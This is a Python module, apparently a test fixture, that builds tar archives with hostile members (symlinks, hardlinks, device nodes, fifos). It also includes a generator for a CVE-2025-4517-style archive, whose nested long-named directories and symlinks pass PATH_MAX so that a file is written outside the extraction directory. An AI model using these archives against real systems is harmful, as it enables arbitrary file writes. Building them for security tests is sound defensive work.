"""Build tar archives with hostile members (links out, devices, fifos) that tarfile would not write itself."""

from __future__ import annotations

import io
import tarfile

_TYPES = {
    "sym": tarfile.SYMTYPE,
    "hard": tarfile.LNKTYPE,
    "chr": tarfile.CHRTYPE,
    "blk": tarfile.BLKTYPE,
    "fifo": tarfile.FIFOTYPE,
    "dir": tarfile.DIRTYPE,
}


def hostile_tar(*members: tuple[str, str, bytes | str]) -> bytes:
    """Members are (name, kind, payload): kind "file" takes bytes; links take their target as payload."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, kind, payload in members:
            info = tarfile.TarInfo(name)
            if kind == "file":
                assert isinstance(payload, bytes)
                info.size = len(payload)
                tf.addfile(info, io.BytesIO(payload))
                continue
            info.type = _TYPES[kind]
            if kind in ("chr", "blk"):
                info.devmajor, info.devminor = 1, 3  # /dev/null's numbers
            info.linkname = str(payload)
            tf.addfile(info)
    return buf.getvalue()


def pathmax_escape(outside: str = "outside") -> list[tuple[str, str, bytes | str]]:
    """The CVE-2025-4517 shape: folders of 247-byte names, each with a one-letter link to it, so the link
    path stays short while what it resolves to passes PATH_MAX, where `os.path.realpath` stops resolving
    and goes on lexically; a last link climbs out through them and a file is written through it."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    members: list[tuple[str, str, bytes | str]] = []
    path = ""
    for step in steps:
        members.append((f"{path}{comp}", "dir", ""))
        members.append((f"{path}{step}", "sym", comp))
        path = f"{path}{comp}/"
    deep = "/".join(steps) + "/" + "l" * 254
    members.append((deep, "sym", "../" * len(steps)))
    members.append(("escape", "sym", f"{deep}/../{outside}"))
    members.append(("escape/evil", "file", b"escaped"))
    return members
